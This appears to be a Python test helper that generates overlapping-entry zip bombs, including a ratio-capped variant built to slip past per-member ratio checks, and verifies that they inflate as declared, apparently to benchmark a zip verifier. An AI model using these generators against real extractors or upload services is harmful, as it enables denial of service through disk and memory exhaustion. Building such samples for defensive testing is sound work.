"""Overlapping-entries zip bombs after David Fifield, "A better zip bomb" (WOOT 2019).

Every member's DEFLATE stream starts with a stored block that quotes the next member's
local header, then runs on into that member's data, so all members share one highly
compressed kernel: a 42 kB file declares gigabytes, and an extractor that trusts the
central directory writes them all.
"""

from __future__ import annotations

import random
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

from tests.hostile import crc32_combine, stored_block_header

_LOCAL = struct.Struct("<4sHHHHHIIIHH")
_CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")
_END = struct.Struct("<4sHHHHIIH")
_VERSION = 20
_DEFLATED = 8
_DOS_TIME, _DOS_DATE = 0x8A2A, 0x515B  # 2020-10-27 17:17:20, any fixed value will do
_NAME_CHARS = "0123456789abcdefghijklmnopqrstuvwxyz"


@dataclass(frozen=True)
class Bomb:
    """What was written: the file, how many members, and the sizes it declares."""

    path: Path
    members: int
    file_size: int
    declared_size: int
    largest_ratio: float


def _names(count: int) -> list[str]:
    """Short distinct names; lower case only, so no two fold to the same name."""
    width = 1
    while len(_NAME_CHARS) ** width < count:
        width += 1
    names = []
    for index in range(count):
        digits = []
        for _ in range(width):
            index, rest = divmod(index, len(_NAME_CHARS))
            digits.append(_NAME_CHARS[rest])
        names.append("".join(reversed(digits)))
    return names


def _crc32_of_zeros(count: int) -> int:
    crc, block = 0, bytes(1 << 20)
    while count:
        step = min(count, len(block))
        crc = zlib.crc32(block[:step], crc)
        count -= step
    return crc


def _kernel(noise: int, zeros: int) -> tuple[bytes, int, int]:
    """Compress `noise` random bytes then `zeros` zero bytes; return (stream, size, crc)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    noise_bytes = random.Random(noise).randbytes(noise)
    stream = compressor.compress(noise_bytes)
    block, left = bytes(1 << 20), zeros
    while left:
        step = min(left, len(block))
        stream += compressor.compress(block[:step])
        left -= step
    stream += compressor.flush()
    crc = crc32_combine(zlib.crc32(noise_bytes), _crc32_of_zeros(zeros), zeros)
    return stream, noise + zeros, crc


def write_bomb(path: Path, members: int, noise: int, zeros: int) -> Bomb:
    """Write a quoted-overlap bomb whose kernel is `noise` random then `zeros` zero bytes."""
    kernel, kernel_size, kernel_crc = _kernel(noise, zeros)
    names = [name.encode("ascii") for name in _names(members)]
    crcs, sizes, packed = [0] * members, [0] * members, [0] * members
    headers: list[bytes] = [b""] * members
    # Built from the last member back: each one's data contains the next one's header.
    for index in reversed(range(members)):
        if index == members - 1:
            crcs[index], sizes[index], packed[index] = kernel_crc, kernel_size, len(kernel)
        else:
            quoted = headers[index + 1]
            crcs[index] = crc32_combine(zlib.crc32(quoted), crcs[index + 1], sizes[index + 1])
            sizes[index] = len(quoted) + sizes[index + 1]
            packed[index] = 5 + len(quoted) + packed[index + 1]
        headers[index] = _LOCAL.pack(
            b"PK\x03\x04", _VERSION, 0, _DEFLATED, _DOS_TIME, _DOS_DATE, crcs[index],
            packed[index], sizes[index], len(names[index]), 0,
        ) + names[index]
    body = bytearray()
    offsets = []
    for index in range(members):
        offsets.append(len(body))
        body += headers[index]
        if index < members - 1:
            body += stored_block_header(len(headers[index + 1]))
    body += kernel
    directory = bytearray()
    for index in range(members):
        directory += _CENTRAL.pack(
            b"PK\x01\x02", _VERSION, _VERSION, 0, _DEFLATED, _DOS_TIME, _DOS_DATE, crcs[index],
            packed[index], sizes[index], len(names[index]), 0, 0, 0, 0, 0o644 << 16,
            offsets[index],
        ) + names[index]
    end = _END.pack(b"PK\x05\x06", 0, 0, members, members, len(directory), len(body), 0)
    data = bytes(body + directory + end)
    path.write_bytes(data)
    ratio = max(size / pack for size, pack in zip(sizes, packed, strict=True))
    return Bomb(path, members, len(data), sum(sizes), ratio)


def fifield_small(path: Path) -> Bomb:
    """The classic: about 42 kB declaring about 5.5 GB, every member over 1000:1."""
    return write_bomb(path, members=250, noise=0, zeros=21_800_000)


def ratio_capped(path: Path, max_ratio: int) -> Bomb:
    """A bomb whose every member stays under `max_ratio`, so only the overlap betrays it."""
    noise = 16 << 10
    # Zeros deflate about 1030:1; choose a run that lands the kernel near 3/4 of the cap.
    goal = 0.75 * max_ratio
    zeros = int((goal - 1) * noise / (1 - goal / 1030))
    return write_bomb(path, members=250, noise=noise, zeros=zeros)


def check_is_real(bomb: Bomb) -> None:
    """Inflate every member as an extractor would, checking sizes and CRCs (small bombs only).

    Proves the construction is a working bomb, so that a refusal in the benchmark is the
    verifier's doing and not a malformed file's.
    """
    data = bomb.path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    fields = _END.unpack_from(data, end)
    position = fields[6]
    for _ in range(fields[4]):
        entry = _CENTRAL.unpack_from(data, position)
        crc, packed, size, name_length, offset = entry[7], entry[8], entry[9], entry[10], entry[16]
        position += _CENTRAL.size + name_length
        local = _LOCAL.unpack_from(data, offset)
        start = offset + _LOCAL.size + local[9] + local[10]
        inflater = zlib.decompressobj(-zlib.MAX_WBITS)
        plain = inflater.decompress(data[start:start + packed]) + inflater.flush()
        if not inflater.eof or len(plain) != size or zlib.crc32(plain) != crc:
            raise AssertionError(f"member at {offset} does not inflate as declared")
